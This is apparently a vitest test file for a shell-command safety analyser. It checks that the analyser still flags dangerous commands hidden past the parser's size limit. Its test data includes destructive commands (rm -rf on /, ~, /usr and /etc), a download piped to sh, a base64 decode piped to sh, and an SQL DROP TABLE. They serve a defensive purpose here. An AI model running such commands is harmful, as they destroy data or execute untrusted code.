import { beforeAll, describe, expect, it } from 'vitest';
import { analyseCommand, initShellParser } from './analyse';
import { PARSE_LIMITS } from './parse';

beforeAll(() => initShellParser());

/** `unit` repeated past the parser's size limit, then `tail`: the pattern scan decides. */
function pastLimit(unit: string, tail: string): string {
  return unit.repeat(Math.ceil(PARSE_LIMITS.chars / unit.length) + 1) + tail;
}

// The scan keeps what a name is (wrapper, keyword, code runner, …) with its cached word; a name
// seen thousands of times before, harmlessly, must still count the time it matters.
describe('pattern scan after a name has been seen many times', () => {
  it.each([
    ['a wrapper', 'sudo ls; ', 'sudo rm -rf /', 'hardline', 'rm-root'],
    ['a keyword', 'if true; then ls; fi; ', 'if true; then rm -rf ~; fi', 'hardline', 'rm-root'],
    [
      'a downloader piped to a shell',
      'curl -s https://x | less; ',
      'curl -s https://x | sh',
      'dangerous',
      'remote-code',
    ],
    [
      'a decoder piped to a shell',
      'echo eA== | base64 -d; ',
      'echo eA== | base64 -d | sh',
      'dangerous',
      'decode-exec',
    ],
    ['an SQL client', 'psql -c "SELECT 1"; ', 'psql -c "DROP TABLE users"', 'dangerous', 'sql-drop'],
    ['a checked command', 'rm -f out.txt; ', 'rm -rf /usr', 'hardline', 'rm-root'],
  ])('%s', (_, unit, tail, verdict, key) => {
    const v = analyseCommand(pastLimit(unit, tail));
    expect(v.parsed).toBe(false);
    expect(v.verdict).toBe(verdict);
    expect(v.keys).toContain(key);
    // The same input without the tail has no such finding: the tail is what counts.
    expect(analyseCommand(pastLimit(unit, 'ls')).keys).not.toContain(key);
  });

  it('counts a wrapper hidden among many distinct words', () => {
    const distinct = Array.from({ length: 20_000 }, (_, i) => `tool${i} arg`).join('; ');
    expect(analyseCommand(`${distinct}; sudo rm -rf /`).verdict).toBe('hardline');
    expect(analyseCommand(`${distinct}; doas rm -rf /etc`).verdict).toBe('hardline');
  });
});
